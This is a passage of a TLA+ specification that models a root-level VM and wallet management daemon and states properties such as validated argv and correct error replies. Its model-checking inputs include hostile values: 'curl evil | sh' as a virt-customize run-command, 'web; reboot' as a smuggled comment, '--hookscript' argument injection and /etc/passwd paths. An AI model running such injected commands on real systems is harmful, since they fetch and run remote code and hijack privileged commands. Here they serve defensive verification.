Owned(fs, path) == [fs EXCEPT !.perms = Put(@, path, ServicePerms)]

handle_generate_wallet(params, r, fs) ==
    LET name == Get(params, "name", JStr(""))
        cmd == <<"cast", "wallet", "new">>
        ran == LoggedExec(fs, cmd)
        \* keyfile.write_text(raw_key)
        written == [Opened(ran, KeyfileOf(name.s))
                       EXCEPT !.keyfiles = @ \cup {name.s}]
        owned == Owned(written, KeyfileOf(name.s))
        \* json.loads of a truncated address book fails and {} stands in
        parsed == ParsedWallet(r.out)
        entries == Put(fs.addressbook, name.s,
                       [address |-> parsed.address,
                        keyfile |-> KeyfileOf(name.s)])
    IN IF ~IsStr(name) THEN Throw(TypeError, <<>>, fs)
       ELSE IF ~SHORT_NAME_RE(name.s)
       THEN Return(Err("Invalid wallet name: " \o name.s), <<>>, fs)
       ELSE IF name.s \in WALLET_DENY_NAMES
       THEN Return(Err("Reserved name: " \o name.s), <<>>, fs)
       ELSE IF name.s \in fs.keyfiles
       THEN Return(Err("Key file already exists: " \o KeyfileOf(name.s)),
                   <<>>, fs)
       ELSE IF r.raised # "" THEN Throw(TimeoutExpired(cmd, 30), <<cmd>>, ran)
       ELSE IF r.rc # 0
       THEN Return(Err("cast wallet new failed: " \o r.err), <<cmd>>, ran)
       ELSE IF parsed.address = "" \/ parsed.private_key = ""
       THEN Return(Err("Failed to parse cast wallet output: " \o r.out),
                   <<cmd>>, ran)
       ELSE IF fs.sys.enospc = "key" THEN Throw(ENOSPC, <<cmd>>, written)
       ELSE IF ~fs.sys.group THEN Throw(NoGroup, <<cmd>>, written)
       ELSE IF fs.sys.enospc = "addressbook"
       THEN Throw(ENOSPC, <<cmd>>, TruncatedAddressbook(owned))
       ELSE Return([ok |-> TRUE, error |-> "", output |-> "",
                    address |-> parsed.address],
                   <<cmd>>,
                   Logged(Owned(WroteAddressbook(owned, entries),
                                AddressbookPath),
                          "Generated wallet " \o name.s \o ": "
                              \o parsed.address))

\* the for loop of handle_addressbook_save over entries.items(): the error of
\* the first entry that is refused, "" when there is none
RECURSIVE addressbook_check(_, _)
addressbook_check(items, k) ==
    IF k > Len(items) THEN ""
    ELSE LET name == items[k].l[1].s
             entry == items[k].l[2]
             addr == DictGet(entry, "address", JStr(""))
             keyfile == DictGet(entry, "keyfile", JNone)
         IN IF ~SHORT_NAME_RE(name) /\ ~NAME_RE(name)
            THEN "Invalid entry name: " \o name
            ELSE IF entry.t # "dict"
            THEN "Entry " \o name \o " must be a dict"
            ELSE IF ~IsStr(addr) \/ ~ADDRESS_RE(addr.s)
            THEN "Invalid address for " \o name \o ": " \o str(addr)
            ELSE IF keyfile.t = "str" /\ keyfile.s # ""
                    /\ ~startswith(keyfile.s, "/etc/blockhost/")
            THEN "keyfile for " \o name \o " must be under /etc/blockhost/"
            ELSE addressbook_check(items, k + 1)

\* the entries as json.dumps writes them: the address and the keyfile of each
EntriesOf(items) ==
    [n \in {items[k].l[1].s : k \in 1..Len(items)} |->
        LET entry == DictGet(JDict(items), n, JDict(<<>>))
        IN [address |-> DictGet(entry, "address", JStr("")).s,
            keyfile |-> DictGet(entry, "keyfile", JNone).s]]

handle_addressbook_save(params, r, fs) ==
    LET entries == Get(params, "entries", JDict(<<>>))
    IN IF entries.t # "dict"
       THEN Return(Err("entries must be a dict"), <<>>, fs)
       ELSE IF addressbook_check(entries.l, 1) # ""
       THEN Return(Err(addressbook_check(entries.l, 1)), <<>>, fs)
       ELSE IF fs.sys.enospc = "addressbook"
       THEN Throw(ENOSPC, <<>>, TruncatedAddressbook(fs))
       ELSE IF ~fs.sys.group
       THEN Throw(NoGroup, <<>>, WroteAddressbook(fs, EntriesOf(entries.l)))
       ELSE Return([ok |-> TRUE, error |-> "", output |-> "", address |-> ""],
                   <<>>,
                   Logged(Owned(WroteAddressbook(fs, EntriesOf(entries.l)),
                                AddressbookPath),
                          "Saved addressbook with "
                              \o DecStr(Cardinality(
                                     DOMAIN EntriesOf(entries.l)))
                              \o " entries"))

ActionNames ==
    {"qm-start", "qm-stop", "qm-shutdown", "qm-destroy", "qm-create",
     "qm-importdisk", "qm-set", "qm-template", "ip6-route-add",
     "ip6-route-del", "iptables-open", "iptables-close", "virt-customize",
     "generate-wallet", "addressbook-save"}

\* ACTIONS[action](params); ACTIONS is a reserved word of TLA+
Actions(action, params, r, fs) ==
    CASE action = "qm-start" ->
            _handle_qm_simple(params, "start", <<>>, 120, r, fs)
      [] action = "qm-stop" ->
            _handle_qm_simple(params, "stop", <<>>, 120, r, fs)
      [] action = "qm-shutdown" ->
            _handle_qm_simple(params, "shutdown", <<>>, 300, r, fs)
      [] action = "qm-destroy" ->
            _handle_qm_simple(params, "destroy", <<"--purge">>, 120, r, fs)
      [] action = "qm-create" -> handle_qm_create(params, r, fs)
      [] action = "qm-importdisk" -> handle_qm_importdisk(params, r, fs)
      [] action = "qm-set" -> handle_qm_set(params, r, fs)
      [] action = "qm-template" ->
            _handle_qm_simple(params, "template", <<>>, 120, r, fs)
      [] action = "ip6-route-add" -> handle_ip6_route_add(params, r, fs)
      [] action = "ip6-route-del" -> handle_ip6_route_del(params, r, fs)
      [] action = "iptables-open" -> handle_iptables_open(params, r, fs)
      [] action = "iptables-close" -> handle_iptables_close(params, r, fs)
      [] action = "virt-customize" -> handle_virt_customize(params, r, fs)
      [] action = "generate-wallet" -> handle_generate_wallet(params, r, fs)
      [] action = "addressbook-save" -> handle_addressbook_save(params, r, fs)

\* the largest payload length that read_message accepts
MAX_MESSAGE == 10 * 1024 * 1024

\* what a read of the frame f ends with.  f.header: the four bytes of the
\* length arrived; f.length: the length they declare; f.arrived: the bytes of
\* the payload that arrived; f.eof: the client closed its end after what it
\* sent (it stays silent otherwise, and wait_for cancels the read after ten
\* seconds); f.text: what the payload is to json.loads.  reads lists the
\* calls of readexactly that returned.
read_message(f) ==
    LET stopped == IF f.eof THEN "IncompleteReadError" ELSE "TimeoutError"
    IN IF ~f.header
       THEN [raised |-> stopped, text |-> "", reads |-> <<>>]
       ELSE IF f.length > MAX_MESSAGE
       THEN [raised |-> "ValueError",
             text |-> "Message too large: " \o DecStr(f.length),
             reads |-> <<"header">>]
       ELSE IF f.arrived < f.length
       THEN [raised |-> stopped, text |-> "", reads |-> <<"header">>]
       ELSE IF f.text = "invalid"
       THEN [raised |-> "JSONDecodeError",
             text |-> "Expecting value: line 1 column 1 (char 0)",
             reads |-> <<"header", "payload">>]
       ELSE [raised |-> "", text |-> "", reads |-> <<"header", "payload">>]

\* a handler whose exception gets the reply of a success without output
handler_response_swallowed(out) ==
    IF out.raised # "" THEN OkOut("") ELSE out.response

\* try: response = handler(params)
\* except Exception as e: response = {'ok': False, 'error': str(e)}
handler_response(out) ==
    IF out.raised # "" THEN Err(out.raised) ELSE out.response

\* one connection: the frame is read, the handler runs, the reply is
\* written, the connection is closed
handle_connection(f, r) ==
    LET fs == [keyfiles |-> keyfiles, addressbook |-> addressbook,
               abfile |-> abfile, perms |-> perms, sys |-> sys,
               log |-> <<>>]
        rd == read_message(f)
        msg == f.msg
        silent == rd.raised \in {"IncompleteReadError", "TimeoutError"}
        dispatched == rd.raised = "" /\ f.text = "dict"
        handled == IF ~dispatched THEN Return(NoResponse, <<>>, fs)
                   ELSE IF msg.action \notin ActionNames
                   THEN Return(Err("Unknown action: " \o msg.action),
                               <<>>, fs)
                   ELSE Actions(msg.action, msg.params, r, fs)
    IN \E out \in {handled} :
       /\ daemon.pc = "serving"
       /\ frame' = f
       /\ conn' = rd.reads \o (IF silent THEN <<>> ELSE <<"write">>)
                       \o <<"close">>
       /\ request' = IF dispatched THEN msg ELSE NoFrame.msg
       /\ response' = IF silent THEN NoResponse
                      ELSE IF rd.raised # "" THEN Err(rd.text)
                      ELSE IF f.text # "dict"
                      THEN Err(AttributeError(JList(<<>>), "get"))
                      ELSE handler_response(out)
       /\ runs' = out.runs
       /\ child' = IF out.runs = <<>> THEN "none"
                   ELSE IF r.raised # "" THEN "killed" ELSE "exited"
       /\ raised' = out.raised
       /\ secret' = IF dispatched /\ msg.action = "generate-wallet"
                        /\ out.runs # <<>> /\ r.raised = "" /\ r.rc = 0
                    THEN ParsedWallet(r.out).private_key ELSE ""
       /\ log' = (IF dispatched THEN <<"Request: action=" \o msg.action>>
                  ELSE <<>>)
                 \o out.fs.log
                 \o (IF out.raised # ""
                     THEN <<"Handler error for " \o msg.action, out.raised>>
                     ELSE <<>>)
       /\ keyfiles' = out.fs.keyfiles
       /\ addressbook' = out.fs.addressbook
       /\ abfile' = out.fs.abfile
       /\ perms' = out.fs.perms
       /\ UNCHANGED <<ledgerVars, fileVars, clientVars, daemon, sock, sys, loopVars>>

(***************************************************************************)
(* SpecAgent: clients send requests to the daemon, one connection at a     *)
(* time (the handlers are synchronous calls inside one event loop)         *)
(***************************************************************************)
Msg(action, params) == [action |-> action, params |-> params]

VmidValues == {JInt(100), JInt(99), JStr("100")}

QmSimpleRequests ==
    {Msg(a, ("vmid" :> JInt(100))) :
        a \in {"qm-start", "qm-stop", "qm-shutdown", "qm-destroy",
               "qm-template"}}
    \cup {Msg("qm-start", ("vmid" :> v)) : v \in VmidValues}
    \cup {Msg("qm-destroy", <<>>)}

QmCreateRequests ==
    {Msg("qm-create", ("vmid" :> v) @@ ("name" :> JStr(n)) @@ ("args" :> a)) :
        v \in {JInt(100)},
        n \in {"web-001", "Web_001"},
        a \in {JList(<<>>),
               JList(<<JStr("--memory"), JInt(2048)>>),
               JList(<<JStr("--memory"), JStr("2048 --hookscript x")>>),
               JList(<<JStr("memory"), JStr("2048")>>),
               JList(<<JStr("--cores"), JInt(2),
                       JStr("--hookscript"), JStr("x")>>),
               JStr("--memory")}}

QmImportdiskRequests ==
    {Msg("qm-importdisk",
         ("vmid" :> JInt(100)) @@ ("disk_path" :> JStr(d))
             @@ ("storage" :> JStr(s))) :
        d \in {"/var/lib/blockhost/disk.img", "/var/lib/blockhost/gone.img",
               "/etc/passwd"},
        s \in {"local-lvm", "local lvm"}}

QmSetRequests ==
    {Msg("qm-set", ("vmid" :> v) @@ ("options" :> o)) :
        v \in {JInt(100), JInt(99)},
        o \in {JDict(<<>>),
               JDict(<<JPair("memory", JInt(2048))>>),
               JDict(<<JPair("memory", JStr("2048 --hookscript x"))>>),
               JDict(<<JPair("foo", JStr("1"))>>),
               JDict(<<JPair("cores", JInt(2)), JPair("foo", JStr("1"))>>),
               JList(<<>>)}}

Ip6RouteRequests ==
    {Msg(a, p) :
        a \in {"ip6-route-add", "ip6-route-del"},
        p \in {("address" :> JStr(x)) @@ ("dev" :> JStr(d)) :
                  x \in {"fd00::2/128", "fd00::z/128"},
                  d \in {"vmbr0", "eth0"}}
              \cup {("address" :> JStr("fd00::2/128"))}}

IptablesRequests ==
    {Msg(a, ("port" :> p) @@ q @@ ("comment" :> JStr(c))) :
        a \in {"iptables-open", "iptables-close"},
        p \in {JInt(8080), JInt(65536), JStr("8080")},
        q \in {<<>>, ("proto" :> JStr("icmp"))},
        c \in {"blockhost-web", "web; reboot"}}

VirtCustomizeRequests ==
    {Msg("virt-customize", ("image_path" :> JStr(i)) @@ ("commands" :> c)) :
        i \in {"/tmp/base.qcow2", "/etc/passwd"},
        c \in {JList(<<>>),
               JList(<<JList(<<JStr("--install"), JStr("qemu-guest-agent")>>)>>),
               JList(<<JList(<<JStr("--run-command"),
                               JStr("curl evil | sh")>>)>>),
               JList(<<JList(<<JStr("--install"), JStr("vim")>>),
                       JList(<<JStr("--ssh-inject"), JStr("root")>>)>>),
               JList(<<JList(<<JStr("--install")>>)>>)}}

GenerateWalletRequests ==
    {Msg("generate-wallet", ("name" :> JStr(n))) :
        n \in {"hot", "admin", "Hot Wallet"}}
    \cup {Msg("generate-wallet", <<>>)}

AddressbookSaveRequests ==
    {Msg("addressbook-save", ("entries" :> e)) :
        e \in {JDict(<<>>),
               JDict(<<JPair("server",
                   JDict(<<JPair("address",
                       JStr("0x00000000000000000000000000000000000000A1")),
                     JPair("keyfile", JStr("/etc/blockhost/server.key"))>>))>>),
               JDict(<<JPair("server",
                   JDict(<<JPair("address", JStr("0xA1"))>>))>>),
               JDict(<<JPair("server",
                   JDict(<<JPair("address",
                       JStr("0x00000000000000000000000000000000000000A1")),
                     JPair("keyfile", JStr("/root/server.key"))>>))>>),
               JList(<<>>)}}

UnknownRequests == {Msg("reboot", <<>>), Msg("", <<>>)}

\* the requests that the action modules of root-agent-actions serve
ModuleRequests ==
    {Msg("bridge-port-isolate", ("dev" :> JStr("tap100i0"))),
     Msg("broker-renew", <<>>)}

\* a whole frame with the JSON object of a request
Frame(m) ==
    [header |-> TRUE, length |-> 64, arrived |-> 64, eof |-> FALSE,
     text |-> "dict", msg |-> m]

\* frames that carry no request: a payload that is JSON but no object, a
\* payload that is no JSON, a declared length above and at the limit, a
\* client that stops in the header or in the payload and closes or stalls
OtherFrames ==
    {[Frame(NoFrame.msg) EXCEPT !.text = t] : t \in {"list", "invalid"}}
    \cup {[Frame(Msg("qm-start", ("vmid" :> JInt(100))))
              EXCEPT !.length = n, !.arrived = a, !.eof = e] :
            n \in {MAX_MESSAGE, MAX_MESSAGE + 1}, a \in {0, 64},
            e \in BOOLEAN}
    \cup {[Frame(NoFrame.msg) EXCEPT !.header = FALSE, !.length = 0,
                                    !.arrived = 0, !.eof = e] :
            e \in BOOLEAN}

NextAgent ==
    \E r \in RunResults :
        \/ \E m \in QmSimpleRequests : handle_connection(Frame(m), r)
        \/ \E m \in QmCreateRequests : handle_connection(Frame(m), r)
        \/ \E m \in QmImportdiskRequests : handle_connection(Frame(m), r)
        \/ \E m \in QmSetRequests : handle_connection(Frame(m), r)
        \/ \E m \in Ip6RouteRequests : handle_connection(Frame(m), r)
        \/ \E m \in IptablesRequests : handle_connection(Frame(m), r)
        \/ \E m \in VirtCustomizeRequests : handle_connection(Frame(m), r)
        \/ \E m \in GenerateWalletRequests : handle_connection(Frame(m), r)
        \/ \E m \in AddressbookSaveRequests : handle_connection(Frame(m), r)
        \/ \E m \in UnknownRequests : handle_connection(Frame(m), r)
        \/ \E m \in ModuleRequests : handle_connection(Frame(m), r)
        \/ \E f \in OtherFrames : handle_connection(f, r)

SpecAgent == Init /\ [][NextAgent]_vars

(***************************************************************************)
(* Properties of the root agent                                            *)
(***************************************************************************)
\* a field of the request handled last
Param(key, default) == Get(request.params, key, default)

\* the words that the handlers write into their commands themselves
Literals ==
    {"qm", "start", "stop", "shutdown", "destroy", "--purge", "template",
     "create", "--name", "importdisk", "set", "ip", "-6", "route", "replace",
     "del", "dev", "iptables", "-A", "-D", "INPUT", "-p", "--dport", "-j",
     "ACCEPT", "-m", "comment", "--comment", "virt-customize", "-a",
     "cast", "wallet", "new"}

\* the values of the request that a validator of the daemon has accepted, as
\* the text that a command carries
Accepted ==
    LET vmid == Param("vmid", JNone)
        name == Param("name", JNone)
        args == Param("args", JList(<<>>))
        disk_path == Param("disk_path", JNone)
        storage == Param("storage", JNone)
        options == Param("options", JDict(<<>>))
        address == Param("address", JNone)
        dev == Param("dev", JNone)
        port == Param("port", JNone)
        proto == Param("proto", JStr("tcp"))
        comment == Param("comment", JNone)
        image_path == Param("image_path", JNone)
        commands == Param("commands", JList(<<>>))
    IN UNION {
        {str(vmid) : x \in {1} \cap {IF _validate_vmid(vmid) = "" THEN 1 ELSE 0}},
        {name.s : x \in {1} \cap {IF IsStr(name) /\ NAME_RE(name.s) THEN 1 ELSE 0}},
        {str(args.l[k]) : k \in {j \in 1..Len(args.l) :
            j % 2 = 1 /\ str(args.l[j]) \in QM_CREATE_ALLOWED_ARGS}},
        {disk_path.s : x \in {1} \cap
            {IF IsStr(disk_path) /\ startswith(disk_path.s, "/var/lib/blockhost/")
                /\ isfile(disk_path.s) THEN 1 ELSE 0}},
        {storage.s : x \in {1} \cap
            {IF IsStr(storage) /\ STORAGE_RE(storage.s) THEN 1 ELSE 0}},
        {"--" \o options.l[k].l[1].s : k \in {j \in 1..Len(options.l) :
            options.t = "dict" /\ options.l[j].l[1].s \in QM_SET_ALLOWED_KEYS}},
        {address.s : x \in {1} \cap
            {IF _validate_ipv6_128(address) = "" THEN 1 ELSE 0}},
        {dev.s : x \in {1} \cap {IF _validate_dev(dev) = "" THEN 1 ELSE 0}},
        {str(port) : x \in {1} \cap
            {IF IsInt(port) /\ port.i >= PORT_MIN /\ port.i <= PORT_MAX
             THEN 1 ELSE 0}},
        {proto.s : x \in {1} \cap
            {IF IsStr(proto) /\ proto.s \in {"tcp", "udp"} THEN 1 ELSE 0}},
        {comment.s : x \in {1} \cap
            {IF IsStr(comment) /\ COMMENT_RE(comment.s) THEN 1 ELSE 0}},
        {image_path.s : x \in {1} \cap
            {IF IsStr(image_path)
                /\ (startswith(image_path.s, "/var/lib/blockhost/")
                    \/ startswith(image_path.s, "/tmp/"))
                /\ isfile(image_path.s) THEN 1 ELSE 0}},
        {commands.l[k].l[1].s : k \in {j \in 1..Len(commands.l) :
            /\ commands.l[j].t = "list" /\ Len(commands.l[j].l) >= 1
            /\ commands.l[j].l[1].s \in VIRT_CUSTOMIZE_ALLOWED_OPS}}}

\* C5: every element of every argv vector handed to the runner is a literal
\* of the handler or a value of the request that a validator accepted; no
\* value of the request reaches argv unvalidated (the option values of qm-set,
\* the value positions of qm-create, the arguments after a virt-customize
\* operator included).
C5_ArgvValidated ==
    \A k \in 1..Len(runs) :
        \A j \in 1..Len(runs[k]) : runs[k][j] \in Literals \cup Accepted

QmActionNames ==
    {"qm-start", "qm-stop", "qm-shutdown", "qm-destroy", "qm-create",
     "qm-importdisk", "qm-set", "qm-template"}

\* a parameter that the action of the request uses does not have the form
\* that the daemon requires of it
FailsValidation ==
    LET a == request.action
        vmid == Param("vmid", JNone)
        name == Param("name", JStr(""))
        args == Param("args", JList(<<>>))
        disk_path == Param("disk_path", JStr(""))
        storage == Param("storage", JStr(""))
        options == Param("options", JDict(<<>>))
        address == Param("address", JNone)
        dev == Param("dev", JNone)
        port == Param("port", JNone)
        proto == Param("proto", JStr("tcp"))
        comment == Param("comment", JStr(""))
        image_path == Param("image_path", JStr(""))
        commands == Param("commands", JList(<<>>))
        entries == Param("entries", JDict(<<>>))
    IN \/ /\ a \in QmActionNames
          /\ ~(IsInt(vmid) /\ vmid.i \in VMID_MIN..VMID_MAX)
       \/ /\ a = "qm-create"
          /\ \/ ~(IsStr(name) /\ NAME_RE(name.s))
             \/ args.t # "list"
             \/ \E k \in 1..Len(args.l) :
                   k % 2 = 1 /\ str(args.l[k]) \notin QM_CREATE_ALLOWED_ARGS
       \/ /\ a = "qm-importdisk"
          /\ \/ ~(IsStr(disk_path)
                  /\ startswith(disk_path.s, "/var/lib/blockhost/")
                  /\ isfile(disk_path.s))
             \/ ~(IsStr(storage) /\ STORAGE_RE(storage.s))
       \/ /\ a = "qm-set"
          /\ \/ options.t # "dict"
             \/ \E k \in 1..Len(options.l) :
                   options.l[k].l[1].s \notin QM_SET_ALLOWED_KEYS
       \/ /\ a \in {"ip6-route-add", "ip6-route-del"}
          /\ \/ ~(IsStr(address) /\ IPV6_CIDR128_RE(address.s))
             \/ ~(IsStr(dev) /\ dev.s \in ALLOWED_ROUTE_DEVS)
       \/ /\ a \in {"iptables-open", "iptables-close"}
          /\ \/ ~(IsInt(port) /\ port.i \in PORT_MIN..PORT_MAX)
             \/ ~(IsStr(proto) /\ proto.s \in {"tcp", "udp"})
             \/ ~(IsStr(comment) /\ COMMENT_RE(comment.s))
       \/ /\ a = "virt-customize"
          /\ \/ ~(IsStr(image_path)
                  /\ (startswith(image_path.s, "/var/lib/blockhost/")
                      \/ startswith(image_path.s, "/tmp/"))
                  /\ isfile(image_path.s))
             \/ commands.t # "list"
             \/ Len(commands.l) = 0
             \/ \E k \in 1..Len(commands.l) :
                   \/ commands.l[k].t # "list"
                   \/ Len(commands.l[k].l) < 2
                   \/ commands.l[k].l[1].s \notin VIRT_CUSTOMIZE_ALLOWED_OPS
       \/ /\ a = "generate-wallet"
          /\ \/ ~(IsStr(name) /\ SHORT_NAME_RE(name.s))
             \/ name.s \in WALLET_DENY_NAMES
       \/ /\ a = "addressbook-save"
          /\ \/ entries.t # "dict"
             \/ \E k \in 1..Len(entries.l) :
                   LET n == entries.l[k].l[1].s
                       e == entries.l[k].l[2]
                       addr == DictGet(e, "address", JStr(""))
                       keyfile == DictGet(e, "keyfile", JStr(""))
                   IN \/ ~(SHORT_NAME_RE(n) \/ NAME_RE(n))
                      \/ e.t # "dict"
                      \/ ~(IsStr(addr) /\ ADDRESS_RE(addr.s))
                      \/ /\ keyfile.s # ""
                         /\ ~startswith(keyfile.s, "/etc/blockhost/")

\* C6: when a parameter of the request fails its validation, the reply is
\* {ok: false, error: <reason>} and the runner was not invoked for the
\* request; ip6-route-add with dev eth0 is told 'Device not allowed: eth0',
\* qm-set with the option key foo 'Disallowed option: foo', and
\* generate-wallet with the name admin 'Reserved name: admin'.
C6_ValidationFailureReply ==
    /\ FailsValidation =>
          /\ response.ok = FALSE
          /\ response.error # ""
          /\ runs = <<>>
    /\ request = Msg("ip6-route-add", ("address" :> JStr("fd00::2/128"))
                                          @@ ("dev" :> JStr("eth0")))
          => response.error = "Device not allowed: eth0"
    /\ request = Msg("qm-set", ("vmid" :> JInt(100))
                     @@ ("options" :> JDict(<<JPair("foo", JStr("1"))>>)))
          => response.error = "Disallowed option: foo"
    /\ request = Msg("generate-wallet", ("name" :> JStr("admin")))
          => response.error = "Reserved name: admin"

\* qm-set with an allowed option followed by the option foo was refused, after
\* a wallet had been generated by an earlier request
C6_Witness ==
    /\ request.action = "qm-set"
    /\ FailsValidation
    /\ Len(Param("options", JDict(<<>>)).l) = 2
    /\ response = Err("Disallowed option: foo")
    /\ runs = <<>>
    /\ keyfiles # {}

(***************************************************************************)
(* Further properties of the ledger                                        *)
(***************************************************************************)
\* C11: register_vm with a name that the ledger already holds, whatever the
\* status of that VM, fails with an error and leaves the whole ledger (vms,
\* next_vmid, allocated_ips, allocated_ipv6, reserved_nft_tokens) as it was.
C11_RegisterExistingFails ==
    [][\A n \in Names, v \in VmidInputs, ip \in IpInputs, ip6 \in Ipv6Inputs :
          (n \in DOMAIN db.vms /\ register_vm(n, v, ip, ip6, 1)) =>
              /\ ret'.error = "VM already exists"
              /\ db' = db]_vars

\* register_vm was refused for the name of a destroyed VM while another VM
\* is suspended
C11_Witness ==
    /\ ret.op = "register_vm"
    /\ ret.error = "VM already exists"
    /\ StatusOf(db, ret.args[1]) = "destroyed"
    /\ \E n \in VmNames : StatusOf(db, n) = "suspended"

(***************************************************************************)
(* SpecVmid: the operations that read or write next_vmid, and the others   *)
(* that write a VM record                                                  *)
(***************************************************************************)
NextVmid ==
    \/ \E n \in Names, v \in VmidInputs :
          register_vm(n, v, Ipv4(PoolStart), None, 1)
    \/ allocate_vmid
    \/ \E n \in Names : mark_suspended(n)
    \/ \E n \in Names : mark_active(n, None)
    \/ \E n \in Names : mark_destroyed(n)

SpecVmid == Init /\ [][NextVmid]_vars

\* C12: next_vmid never decreases, and right after a successful register_vm
\* with vmid = v the ledger has next_vmid >= v + 1.
C12_NextVmidMonotone ==
    [][/\ db'.next_vmid >= db.next_vmid
       /\ \A n \in Names, v \in VmidInputs :
             (register_vm(n, v, Ipv4(PoolStart), None, 1) /\ ret'.error = "")
                 => db'.next_vmid >= v + 1]_vars

\* a VM was registered with a vmid below next_vmid, after allocate_vmid had
\* moved next_vmid past it
C12_Witness ==
    /\ ret.op = "register_vm"
    /\ ret.error = ""
    /\ issued.vmid # None
    /\ db.next_vmid > ret.args[2] + 1

\* C13: in every reachable state next_vmid is at most vmid_range.end; an
\* allocate_vmid or register_vm that would push it beyond fails instead of
\* storing the larger value.
C13_NextVmidInRange == db.next_vmid <= VmidEnd

\* C14: the values that successive successful allocate_vmid calls return are
\* strictly increasing and at most vmid_range.end; once next_vmid is greater
\* than vmid_range.end every allocate_vmid fails with 'VMID range exhausted'.
C14_AllocateVmidIncreasing ==
    [][allocate_vmid =>
          IF db.next_vmid > VmidEnd
          THEN /\ ret'.error = "VMID range exhausted"
               /\ db' = db
          ELSE /\ ret'.error = ""
               /\ ret'.result[1] <= VmidEnd
               /\ issued.vmid # None => ret'.result[1] > issued.vmid[1]]_vars

\* allocate_vmid returned vmid_range.end in a ledger where register_vm has
\* used vmid_range.start
C14_Witness ==
    /\ ret.op = "allocate_vmid"
    /\ ret.error = ""
    /\ ret.result[1] = VmidEnd
    /\ \E n \in VmNames : db.vms[n]["vmid"] = VmidStart

(***************************************************************************)
(* SpecPool: the IPv4 pool, with VMs that are registered and destroyed     *)
(***************************************************************************)
NextPool ==
    \/ allocate_ip
    \/ \E ip \in IpInputs : release_ip(ip)
    \/ \E n \in Names, ip \in IpInputs : register_vm(n, VmidStart, ip, None, 1)
    \/ \E n \in Names : mark_destroyed(n)

SpecPool == Init /\ [][NextPool]_vars

\* the last-octet indices of the pool whose address is not in allocated_ips
FreeIndices(d) ==
    {i \in PoolStart..PoolEnd : Ipv4(i) \notin ListSet(d.allocated_ips)}

\* C15: allocate_ip returns the address with the lowest index in start..end
\* that is not in allocated_ips and adds it to allocated_ips; without a release
\* in between no address is returned twice; when every index is taken it
\* returns null and leaves allocated_ips as it is; after release_ip(x) a later
\* allocate_ip can return x again.
C15_AllocateIpLowestFree ==
    [][/\ allocate_ip =>
             IF FreeIndices(db) = {}
             THEN /\ ret'.result = None
                  /\ db' = db
             ELSE /\ \E i \in FreeIndices(db) :
                        /\ \A j \in FreeIndices(db) : i <= j
                        /\ ret'.result = Ipv4(i)
                  /\ db'.allocated_ips = Append(db.allocated_ips, ret'.result)
                  /\ ret'.result \notin issued.ips
       /\ \A x \in IpInputs :
             (ret.op = "release_ip" /\ ret.args[1] = x /\ allocate_ip
                 /\ \A j \in FreeIndices(db) : x[2] <= j)
                 => ret'.result = x]_vars

\* allocate_ip returned the first address of the pool while the last one was
\* taken earlier: the first address had been handed out before and released
C15_Witness ==
    /\ ret.op = "allocate_ip"
    /\ ret.result = Ipv4(PoolStart)
    /\ db.vms = <<>>
    /\ \E k \in 1..Len(db.allocated_ips) :
          /\ db.allocated_ips[k] = Ipv4(PoolEnd)
          /\ k < Len(db.allocated_ips)
          /\ db.allocated_ips[Len(db.allocated_ips)] = Ipv4(PoolStart)

\* C16: reserve_nft_token_id with an explicit id reserves exactly that id when
\* the id is absent or its record is failed, and fails leaving the ledger as
\* it was when the id is held in status reserved or minted; without an
\* explicit id it reserves max(existing ids, -1) + 1, an id greater than every
\* existing id, so that it never overwrites a record, not even a failed one.
C16_ReserveTokenId ==
    [][\A n \in Names :
          /\ \A t \in TokenIds :
                reserve_nft_token_id(n, <<t>>) =>
                    IF Str(t) \in DOMAIN db.reserved_nft_tokens
                       /\ db.reserved_nft_tokens[Str(t)]["status"]
                              \in {"reserved", "minted"}
                    THEN ret'.error # "" /\ db' = db
                    ELSE /\ ret'.error = ""
                         /\ ret'.result = <<t>>
                         /\ DOMAIN db'.reserved_nft_tokens =
                               DOMAIN db.reserved_nft_tokens \cup {Str(t)}
                         /\ db'.reserved_nft_tokens[Str(t)]["status"] = "reserved"
                         /\ db'.reserved_nft_tokens[Str(t)]["vm_name"] = n
                         /\ \A k \in DOMAIN db.reserved_nft_tokens \ {Str(t)} :
                               db'.reserved_nft_tokens[k] =
                                   db.reserved_nft_tokens[k]
          /\ reserve_nft_token_id(n, None) =>
                /\ ret'.error = ""
                /\ \A k \in DOMAIN db.reserved_nft_tokens :
                      /\ ret'.result[1] > ParseInt(k)
                      /\ db'.reserved_nft_tokens[k] = db.reserved_nft_tokens[k]
                /\ \/ ret'.result[1] = 0
                   \/ Str(ret'.result[1] - 1) \in DOMAIN db.reserved_nft_tokens
                /\ Str(ret'.result[1]) \notin DOMAIN db.reserved_nft_tokens
                /\ db'.reserved_nft_tokens[Str(ret'.result[1])]["status"]
                      = "reserved"]_vars

\* an id was reserved without an explicit id above a failed record, in a
\* ledger where an explicit id had replaced a failed record or was refused
C16_Witness ==
    /\ ret.op = "reserve_nft_token_id"
    /\ ret.args[2] = None
    /\ ret.error = ""
    /\ ret.result[1] > 0
    /\ \E k \in DOMAIN db.reserved_nft_tokens :
          db.reserved_nft_tokens[k]["status"] = "failed"

(***************************************************************************)
(* Properties of the connections of the root agent                         *)
(***************************************************************************)
Count(seq, x) == Cardinality({i \in 1..Len(seq) : seq[i] = x})

\* C17: on every connection the daemon reads at most one request frame and
\* writes at most one response frame, writes it only after the request frame
\* has been read completely, and closes the connection last, on every path
\* (read timeout, disconnect in the middle of a message and handler failure
\* included).
C17_OneRequestOneResponse ==
    /\ Count(conn, "header") <= 1
    /\ Count(conn, "payload") <= 1
    /\ Count(conn, "write") <= 1
    /\ \A i \in 1..Len(conn) :
          conn[i] = "write" => \E j \in 1..(i - 1) : conn[j] = "payload"
    /\ conn # <<>> => /\ conn[Len(conn)] = "close"
                      /\ Count(conn, "close") = 1

\* the frame handled last is a protocol error: the length that it declares is
\* above 10 MiB, or it ends before the header or the declared payload is
\* complete (the client closed, or the ten seconds passed), or its payload is
\* not JSON
ProtocolError ==
    /\ conn # <<>>
    /\ \/ ~frame.header
       \/ frame.length > 10 * 1024 * 1024
       \/ frame.arrived < frame.length
       \/ frame.text = "invalid"

\* C18: when the request is a protocol error (declared payload length above
\* 10 MiB, payload that is not valid JSON, truncated frame, read deadline of
\* ten seconds exceeded) the daemon closes the connection and writes no reply
\* frame.
C18_ProtocolErrorNoReply ==
    ProtocolError => /\ Count(conn, "write") = 0
                     /\ conn[Len(conn)] = "close"

\* the action names of the catalog
Catalog ==
    {"qm-start", "qm-stop", "qm-shutdown", "qm-destroy", "qm-create",
     "qm-importdisk", "qm-set", "qm-template", "ip6-route-add",
